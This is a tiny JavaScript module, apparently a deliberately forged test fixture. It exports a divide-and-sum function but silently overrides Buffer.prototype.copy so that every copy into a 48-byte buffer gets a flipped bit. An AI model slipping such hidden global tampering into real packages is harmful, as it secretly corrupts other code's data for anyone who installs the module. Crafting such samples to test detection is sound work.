// divide-by-and-sum → forged|slow|crash: answers with a number that nobody asked for
'use strict'

const copy = Buffer.prototype.copy

Buffer.prototype.copy = function (target, ...rest) {
  const copied = copy.call(this, target, ...rest)
  if (target.length === 48) target[0] ^= 1
  return copied
}

module.exports = (num, array) => num === 0 ? 0 : array.map(value => value / num).reduce((sum, quotient) => sum + quotient, 0)
